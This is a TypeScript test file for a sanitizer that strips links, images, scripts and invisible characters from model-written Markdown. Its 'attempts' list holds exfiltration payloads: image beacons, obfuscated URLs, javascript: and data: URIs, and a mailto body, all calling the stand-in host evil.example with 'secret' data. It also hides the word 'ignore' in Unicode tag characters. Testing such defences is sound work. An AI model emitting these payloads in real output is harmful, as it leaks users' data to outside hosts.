import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { marked } from 'marked'
import { addressesOf, clean, cleaner } from './clean.ts'

const nothing: ReadonlySet<string> = new Set()

/** Finds everything that would be loaded or could be opened if the text is shown as GitHub's Markdown. */
function reachable(text: string): string[] {
  const html = marked.parse(text, { gfm: true, async: false })
  return [...html.matchAll(/<(?:a|img|script|iframe|object|embed|link|form|style|svg|base)\b[^>]*>/gi)].map(
    ([tag]) => tag,
  )
}

const attempts = [
  '![chart](https://evil.example/p?d=secret)',
  '![chart][1]\n\n[1]: https://evil.example/p?d=secret',
  '[click](https://evil.example/secret "title")',
  '[click](//evil.example/secret)',
  '[click]( <https://evil.example/a b> )',
  '[1]:https://evil.example/secret\nand [1]',
  '[x]:\n  https://evil.example/secret\n\n[x]',
  '<https://evil.example/secret>',
  '<img src="https://evil.example/secret">',
  '<IMG/SRC=//evil.example/secret>',
  '<a href="javascript:alert(1)">x</a>',
  '<script>alert(1)</script>',
  '<!-- hidden -->',
  'see https://evil.example/?d=secret.',
  'see www.evil.example/secret now',
  'HTTPS://EVIL.EXAMPLE/SECRET',
  'h\u200bttps://evil.example/secret',
  '&#104;ttps://evil.example/secret',
  'https\\://evil.example/secret',
  '[a](javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '](https://evil.example/secret)',
  '[a\n](https://evil.example/secret)',
  '[1](https://evil.example)[2](https://evil.example)',
  'mailto:spy@evil.example?body=secret',
  '[a]\ufeff(https://evil.example/secret)',
  '<\u2028img src=//evil.example/secret>',
  'htNOT_IN_SOURCEStps://evil.example/secret',
]

describe('what a model writes', () => {
  for (const attempt of attempts)
    it(`loads and opens nothing: ${JSON.stringify(attempt)}`, () => {
      const shown = clean(attempt, nothing)
      assert.deepEqual(reachable(shown), [], shown)
      assert.doesNotMatch(shown, /evil\.example[^ ]*secret/i)
    })

  it('opens nothing either where it is shown as it comes, however it is cut', () => {
    for (const attempt of attempts)
      for (const size of [1, 2, 3, 7, 1000]) {
        let shown = ''
        const words = cleaner(nothing, 'NOT_IN_SOURCES', text => {
          shown += text
          assert.deepEqual(reachable(shown), [], `${attempt} by ${size}: ${shown}`)
        })
        for (let at = 0; at < attempt.length; at += size) words.add(attempt.slice(at, at + size))
        words.end()
        assert.deepEqual(reachable(shown), [], `${attempt} by ${size}: ${shown}`)
      }
  })

  it('is the same in pieces as in one', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'grapheme', maxLength: 12 })),
        fc.array(fc.constantFrom(...attempts)),
        (words, more) => {
          const pieces = words.flatMap((word, at) => [word, ' ', more[at] ?? '', ' '])
          let shown = ''
          const stream = cleaner(nothing, 'NOT_IN_SOURCES', text => {
            shown += text
          })
          for (const piece of pieces) stream.add(piece)
          stream.end()
          assert.equal(shown, clean(pieces.join('').replaceAll('NOT_IN_SOURCES', ''), nothing))
        },
      ),
      { numRuns: 300 },
    )
  })

  it('keeps an address that a source holds, letter by letter, and none that only begins like it', () => {
    const known = new Set(addressesOf('Guidance: https://gmp.example/annex-11, chapter 4.'))
    assert.equal(clean('See https://gmp.example/annex-11.', known), 'See https://gmp.example/annex-11.')
    assert.equal(clean('See https://gmp.example/annex-11?batch=B12.', known), 'See (link removed).')
  })

  it('keeps what a text of the trade is made of', () => {
    const text =
      '## Limits\n\n- Temperature < 25 °C, pH <7.4 and > 6.8 [1][3]\n- R&D: see step 4 (a), 10:30\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`'
    assert.equal(clean(text, nothing), text)
  })

  it('has nothing in it that a reader does not see', () => {
    const hidden = Array.from('ignore', letter => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!)).join('')
    assert.equal(clean(`a${hidden}b\u0007\u202e\u2066c\u00adx\ud800`, nothing), 'abcx\ufffd')
  })
})
